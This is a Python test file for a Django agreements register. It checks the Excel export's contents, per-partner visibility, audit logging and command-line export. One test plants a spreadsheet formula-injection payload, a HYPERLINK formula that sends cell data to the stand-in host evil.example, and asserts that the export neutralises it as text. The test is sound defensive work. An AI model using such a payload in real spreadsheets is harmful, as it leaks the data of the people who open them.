"""The register in Excel: one agreement a row (then parties and conditions), what the reader
sees and nothing else, titles that look like formulas kept as text; also as a command."""

import io

from django.core.management import call_command
from openpyxl import load_workbook

from leizu.agreements import services
from leizu.agreements.models import Agreement
from leizu.core.models import AuditEntry


def _sheets(content: bytes) -> dict[str, list[tuple]]:
    wb = load_workbook(io.BytesIO(content))
    return {ws.title: list(ws.iter_rows(values_only=True)) for ws in wb.worksheets}


def test_the_register_exports_what_the_reader_sees(coordinator, clients):
    sheets = _sheets(coordinator.get("/agreements/export.xlsx").content)
    register = sheets["Agreements"]
    assert register[0][:3] == ("id", "kind", "programme_type")
    visible = Agreement.objects.count()
    assert len(register) == 1 + visible
    exchange = Agreement.objects.get(title__en__startswith="Student exchange agreement")
    row = next(r for r in register if r[0] == exchange.pk)
    header = register[0]
    assert row[header.index("state")] == "expiring"
    assert len([c for c in sheets["Conditions"][1:] if c[0] == exchange.pk]) == 2
    assert AuditEntry.objects.filter(action="agreements.register.export").exists()
    theirs = _sheets(clients["partner_b"].get("/agreements/export.xlsx").content)["Agreements"]
    assert exchange.pk not in [r[0] for r in theirs[1:]]  # Akzhol's, not partner B's


def test_a_title_like_a_formula_is_exported_as_text(coordinator, world, actors):
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    services.agreement_create(
        by=actors["coordinator"],
        drafted_by=world["institutions"]["host"],
        data={"kind": "mou", "title": {"en": attack}},
        parties=[world["institutions"]["uz1"]],
    )
    content = coordinator.get("/agreements/export.xlsx").content
    cells = [c for row in load_workbook(io.BytesIO(content)).worksheets[0].iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert any(c.value == "'" + attack for c in cells)


def test_the_operator_exports_the_whole_register_from_the_command_line(world, tmp_path):
    path = tmp_path / "register.xlsx"
    out = io.StringIO()
    call_command("export_agreements", str(path), stdout=out)
    assert len(_sheets(path.read_bytes())["Agreements"]) == 1 + Agreement.objects.count()
    assert str(path) in out.getvalue()
